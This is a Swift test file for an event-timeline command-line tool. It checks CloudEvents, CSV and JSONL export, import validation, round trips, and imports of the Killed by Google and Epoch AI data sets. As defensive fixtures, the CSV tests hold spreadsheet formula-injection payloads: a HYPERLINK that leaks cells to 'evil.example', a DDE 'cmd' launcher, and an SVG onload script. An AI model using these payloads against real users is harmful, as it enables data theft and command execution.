@@ -1,0 +1,245 @@
+import Foundation
+import Testing
+
+// MARK: - export
+
+@Test func cloudEventsCarryTheRequiredAttributesPrecisionAndConfidence() throws {
+  try withTemporaryDirectory { dir in
+    let log = try logFrom("sample.jsonl", in: dir)
+    let result = try timeline(["--log", log, "export", "--format", "cloudevents", "--source-uri", "urn:example:ci"])
+    #expect(result.status == 0)
+    let canonical = try timeline(["--log", log, "export", "--format", "jsonl"]).stdout.split(separator: "\n")
+    let lines = result.stdout.split(separator: "\n")
+    #expect(lines.count == 19 && canonical.count == 19)
+    for (line, event) in zip(lines, canonical) {
+      let object = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
+      let data = try #require(object["data"] as? [String: Any])
+      let expected = try #require(try JSONSerialization.jsonObject(with: Data(event.utf8)) as? [String: Any])
+      #expect(NSDictionary(dictionary: data).isEqual(to: expected), "data is the canonical event")
+      #expect(object["specversion"] as? String == "1.0")
+      #expect(object["id"] as? String == expected["id"] as? String)
+      #expect(object["source"] as? String == "urn:example:ci")
+      #expect(object["type"] as? String == "timeline." + (expected["kind"] as! String))
+      #expect(object["datacontenttype"] as? String == "application/json")
+      #expect(object["subject"] as? String == (expected["subject"] ?? expected["org"]) as? String)
+      #expect(object["confidence"] as? String == expected["confidence"] as? String)
+      #expect(object["eventdate"] as? String == expected["date"] as? String)
+      for key in object.keys { #expect(key.wholeMatch(of: /[a-z0-9]+/) != nil, "attribute name \(key)") }
+      // time is the start of the date's period; the precision says how much of it is known.
+      let date = expected["date"] as! String
+      let precision = ["4": "year", "7": "month", "10": "day"][String(date.count)]
+      #expect(object["dateprecision"] as? String == precision)
+      let time = try #require(object["time"] as? String)
+      #expect(time.hasPrefix(date) && time.hasSuffix("T00:00:00.000Z") || (date.count == 7 && time.hasPrefix(date + "-01")))
+    }
+    // Line 12 of the sample is the valuation, known to the month.
+    #expect(result.stdout.contains("\"time\":\"2025-12-01T00:00:00.000Z\",\"subject\":\"openai\",\"datacontenttype\":\"application/json\",\"dateprecision\":\"month\",\"eventdate\":\"2025-12\",\"confidence\":\"reported\""))
+  }
+}
+
+@Test func csvQuotesAsRFC4180AndMakesFormulaCellsInert() throws {
+  try withTemporaryDirectory { dir in
+    let log = try logFrom("hostile.jsonl", in: dir)
+    let csv = try timeline(["--log", log, "export", "--format", "csv"]).stdout
+    #expect(csv.hasPrefix("id,date,kind,org,subject,confidence,note,attrs,source.title,source.publisher,source.url,source.date,supersedes,recorded\r\n"))
+    // Formula starts get an apostrophe: =, +, -, @, tab; and a leading apostrophe is doubled.
+    #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\""))
+    #expect(csv.contains(",'+cmd|' /C calc'!A0,"))
+    #expect(csv.contains(",'-2+3,"))
+    #expect(csv.contains(",'\t=tab formula,"))
+    #expect(csv.contains(",''quoted,"))
+    #expect(csv.contains("\"''><svg onload=document.body.setAttribute('data-pwned','svg')>\""))
+    // A newline inside a note stays inside one quoted cell.
+    #expect(csv.contains("\"control \u{7} bell, U+FFFE \u{fffe}, bidi \u{202e} reversed, tab\there, newline\nsecond line: #35; %% comment ; `tick` <b>bold</b>\""))
+    // No cell of any row starts with a formula character.
+    for row in csv.components(separatedBy: "\r\n") {
+      for cell in row.split(separator: ",", omittingEmptySubsequences: false) {
+        let bare = cell.hasPrefix("\"") ? cell.dropFirst() : cell
+        #expect(!(bare.first.map { "=+@".contains($0) } ?? false), "inert cell expected: \(cell)")
+      }
+    }
+  }
+}
+
+@Test func jsonlExportIsTheCanonicalLinesInReplayOrder() throws {
+  try withTemporaryDirectory { dir in
+    let log = try logFrom("sample.jsonl", in: dir)
+    let exported = try timeline(["--log", log, "export", "--format", "jsonl"]).stdout
+    let stored = try contents(log + "/log.jsonl")
+    #expect(Set(exported.split(separator: "\n")) == Set(stored.split(separator: "\n")))
+    let dates = exported.split(separator: "\n").map { $0.split(separator: "\"")[7] }
+    #expect(dates == dates.sorted())
+    let filtered = try timeline(["--log", log, "export", "--format", "jsonl", "--org", "google", "--from", "2025-11-20"]).stdout
+    #expect(filtered.split(separator: "\n").count == 2)
+    #expect(try timeline(["--log", log, "export"]).status == 64)
+  }
+}
+
+// MARK: - import
+
+@Test func importRejectsTheWholeFileNamingEveryBadRowAndLeavesTheLogAsItWas() throws {
+  try withTemporaryDirectory { dir in
+    let log = try logFrom("sample.jsonl", in: dir)
+    let before = snapshot(log)
+    let csv = """
+      Name,Day,Kind,Link
+      Widget,2025-01-02,launch,https://example.com/w
+      "Two
+      lines",2025-13-01,launch,https://example.com/x
+      Gadget,2025-02-03,lunch,https://example.com/g
+      ,2025-02-04,launch,
+      Gizmo,2025-02-30,retire,https://example.com/z
+
+      """
+    try csv.write(toFile: dir + "/in.csv", atomically: true, encoding: .utf8)
+    let result = try timeline(["--log", log, "import", dir + "/in.csv", "--format", "csv", "--set", "org=acme",
+                               "--map", "Name=subject:slug", "--map", "Day=date", "--map", "Kind=kind", "--map", "Link=source.url"])
+    #expect(result.status == 65)
+    #expect(result.stderr.contains("4 of the 5 rows of \(dir)/in.csv are invalid; nothing was appended"))
+    #expect(result.stderr.contains("in.csv:3 (Two lines): \"date\": \"2025-13-01\" is not a real date"), "\(result.stderr)")
+    #expect(result.stderr.contains("in.csv:5 (Gadget): unknown kind 'lunch' (did you mean \"launch\"?)"))
+    #expect(result.stderr.contains("in.csv:6: missing \"subject\""))
+    #expect(result.stderr.contains("in.csv:7 (Gizmo): \"date\": \"2025-02-30\" is not a real date: February 2025 has 28 days"))
+    #expect(snapshot(log) == before, "the log changed")
+  }
+}
+
+@Test func importingTheSameFileTwiceAppendsNothingTheSecondTime() throws {
+  try withTemporaryDirectory { dir in
+    let source = try logFrom("sample.jsonl", in: dir)
+    let csvPath = dir + "/export.csv"
+    #expect(try timeline(["--log", source, "export", "--format", "csv", "-o", csvPath]).status == 0)
+    let log = dir + "/copy"
+    let first = try timeline(["--log", log, "import", csvPath, "--format", "csv"])
+    #expect(first.status == 0, "\(first.stderr)")
+    #expect(first.stdout.contains("19 rows read from \(csvPath); 19 events; appended 19"))
+    let after = snapshot(log)
+    let second = try timeline(["--log", log, "import", csvPath, "--format", "csv"])
+    #expect(second.status == 0)
+    #expect(second.stdout.contains("19 events, 19 already in the log; appended 0"))
+    #expect(snapshot(log) == after)
+    let dry = try timeline(["--log", dir + "/dry", "import", csvPath, "--format", "csv", "--dry-run"])
+    #expect(dry.stdout.contains("would append 19") && !FileManager.default.fileExists(atPath: dir + "/dry"))
+  }
+}
+
+/// export -> import -> export gives the same bytes, in CSV and JSONL.
+private func expectRoundTrip(_ log: String, in dir: String) throws {
+  for format in ["csv", "jsonl"] {
+    let first = dir + "/first.\(format)"
+    let second = dir + "/second.\(format)"
+    let copy = dir + "/copy-\(format)"
+    #expect(try timeline(["--log", log, "export", "--format", format, "-o", first]).status == 0)
+    let imported = try timeline(["--log", copy, "import", first, "--format", format])
+    #expect(imported.status == 0, "\(imported.stderr)")
+    #expect(try timeline(["--log", copy, "export", "--format", format, "-o", second]).status == 0)
+    #expect(try Data(contentsOf: URL(fileURLWithPath: first)) == Data(contentsOf: URL(fileURLWithPath: second)), "\(format) round trip differs")
+    #expect(try timeline(["--log", copy, "check"]).status == 0)
+  }
+}
+
+@Test func importExportImportRoundTripsTheShippedLogExactly() throws {
+  let shipped = checkoutRoot + "/events"
+  let files = (try? FileManager.default.contentsOfDirectory(atPath: shipped).filter { $0.hasSuffix(".jsonl") }) ?? []
+  try withTemporaryDirectory { dir in
+    // Before the corpus lands, the sample and the hostile fixtures stand in for it.
+    let logs = files.isEmpty ? [try logFrom("sample.jsonl", in: dir + "/s"), try logFrom("hostile.jsonl", in: dir + "/h")] : [shipped]
+    for (index, log) in logs.enumerated() {
+      let work = dir + "/rt\(index)"
+      try FileManager.default.createDirectory(atPath: work, withIntermediateDirectories: true)
+      try expectRoundTrip(log, in: work)
+    }
+  }
+}
+
+@Test func killedByGoogleImportsAsLaunchesAndRetiresAndRoundTrips() throws {
+  let graveyard = sharedData + "/killedbygoogle/graveyard.json"
+  try #require(FileManager.default.fileExists(atPath: graveyard), "the data set is read from ../shared/data")
+  try withTemporaryDirectory { dir in
+    let log = dir + "/kbg"
+    let result = try timeline(["--log", log, "import", graveyard, "--preset", "killedbygoogle"])
+    #expect(result.status == 0, "\(result.stderr)")
+    #expect(result.stdout.contains("307 rows read from \(graveyard); 614 events; appended 614"))
+    // Planned shutdowns are kept and said.
+    #expect(result.stderr.contains("retire google/firebase-studio is dated 2027-03-22, after today"))
+    #expect(result.stderr.contains("retire google/google-earth-pro is dated 2027-06-25, after today"))
+    // The counts SOURCES.md gives, through state: a product retired on D is gone at the end of D.
+    for (day, alive) in [("2010-01-01", 90), ("2015-06-01", 110), ("2020-01-01", 93), ("2024-01-01", 13), ("2011-09-02", 104),
+                         ("2019-04-02", 111), ("2018-09-18", 122)] {
+      let state = try timeline(["--log", log, "state", "--at", day, "--json"]).stdout
+      #expect(state.components(separatedBy: "\"status\": \"active\"").count - 1 == alive, "alive on \(day)")
+    }
+    let reader = try timeline(["--log", log, "log", "--subject", "google/google-reader"]).stdout
+    #expect(reader.contains("2005-10-07") && reader.contains("2013-07-01"))
+    // An archived link whose path holds another URL keeps its own start.
+    let apis = try timeline(["--log", log, "export", "--format", "jsonl"]).stdout
+    #expect(apis.contains("\"url\":\"https://web.archive.org/web/20021105033319/http://www.google.com/apis/\""))
+    let again = try timeline(["--log", log, "import", graveyard, "--preset", "killedbygoogle"])
+    #expect(again.stdout.contains("614 already in the log; appended 0"))
+    try expectRoundTrip(log, in: dir)
+  }
+}
+
+@Test func epochNotableModelsImportWithTheirQuirksReported() throws {
+  let csv = sharedData + "/epoch-notable-ai-models/notable_ai_models_2025-04.csv"
+  try #require(FileManager.default.fileExists(atPath: csv), "the data set is read from ../shared/data")
+  try withTemporaryDirectory { dir in
+    let log = dir + "/epoch"
+    let result = try timeline(["--log", log, "import", csv, "--preset", "epoch"])
+    #expect(result.status == 0, "\(result.stderr)")
+    #expect(result.stdout.contains("924 rows read from \(csv), 14 skipped; 910 events; appended 910"))
+    #expect(result.stderr.contains("skipped (Llama 4 Behemoth): empty 'Publication date'"))
+    #expect(result.stderr.components(separatedBy: ": empty 'Organization'").count - 1 == 13)
+    #expect(result.stderr.contains("year-if-jan1 on 'Publication date' changed 12 rows"))
+    #expect(result.stderr.contains("first on 'Organization' changed 308 rows"))
+    #expect(result.stderr.contains("3 rows had no source title or url"))
+    let events = try timeline(["--log", log, "export", "--format", "jsonl"]).stdout
+    // Non-ASCII names become slugs; + keeps PointNet++ apart from PointNet; year-only dates keep their precision.
+    for subject in ["openai/dall-e-3", "huawei-noah-s-ark-lab/pangu-sigma", "microsoft-research/nuwa", "ut-austin/lambda-wasp",
+                    "stanford-university/pointnet-plus-plus", "stanford-university/pointnet"] {
+      #expect(events.contains("\"subject\":\"\(subject)\""), "missing \(subject)")
+    }
+    #expect(events.contains(/"date":"\d{4}","kind":"launch"/), "a year-only date")
+    // Several organisations: the first owns the launch, the note keeps them all.
+    #expect(events.contains("\"org\":\"microsoft-research\",\"subject\":\"microsoft-research/nuwa\""))
+    #expect(events.contains("Organization: Microsoft Research,Peking University"))
+    #expect(try timeline(["--log", log, "check"]).status == 0)
+    try expectRoundTrip(log, in: dir)
+  }
+}
+
+@Test func importMappingMistakesAreUsageErrors() throws {
+  try withTemporaryDirectory { dir in
+    try "a,b\n1,2\n".write(toFile: dir + "/t.csv", atomically: true, encoding: .utf8)
+    let cases: [([String], String)] = [
+      (["--map", "a=dat"], "unknown field 'dat' (did you mean \"date\"?)"),
+      (["--map", "c=date"], "has no column 'c'"),
+      (["--map", "a=date:slugify"], "unknown transform 'slugify'; the transforms are slug, first"),
+      (["--map", "a=date@lunch"], "'lunch' after @ is not a kind"),
+      (["--map", "a=date", "--map", "b=date"], "both 'a' and 'b' fill date"),
+      (["--kind", "lunch"], "unknown kind 'lunch'"),
+      ([], "no column is named like an event field"),
+    ]
+    for (arguments, message) in cases {
+      let result = try timeline(["--log", dir + "/log", "import", dir + "/t.csv", "--format", "csv"] + arguments)
+      #expect(result.status == 64, "\(arguments)")
+      #expect(result.stderr.contains(message), "\(arguments): \(result.stderr)")
+    }
+    #expect(try timeline(["--log", dir + "/log", "import", dir + "/missing.csv", "--format", "csv"]).status == 66)
+  }
+}
+
+@Test func importOfHostileCSVKeepsTheTextAndExportsItInert() throws {
+  try withTemporaryDirectory { dir in
+    let csv = "subject,date,note\r\nwidget,2025-01-01,\"=1+2\"\r\ngadget,2025-01-02,@SUM(A1)\r\n"
+    try csv.write(toFile: dir + "/in.csv", atomically: true, encoding: .utf8)
+    let log = dir + "/log"
+    let result = try timeline(["--log", log, "import", dir + "/in.csv", "--format", "csv", "--kind", "launch", "--set", "org=acme",
+                               "--map", "subject=subject", "--map", "date=date", "--map", "note=note"])
+    #expect(result.status == 0, "\(result.stderr)")
+    let events = try timeline(["--log", log, "export", "--format", "jsonl"]).stdout
+    #expect(events.contains("\"subject\":\"acme/widget\"") && events.contains("\"note\":\"=1+2\""))
+    let out = try timeline(["--log", log, "export", "--format", "csv"]).stdout
+    #expect(out.contains(",'=1+2,") && out.contains(",'@SUM(A1),"))
+  }
+}
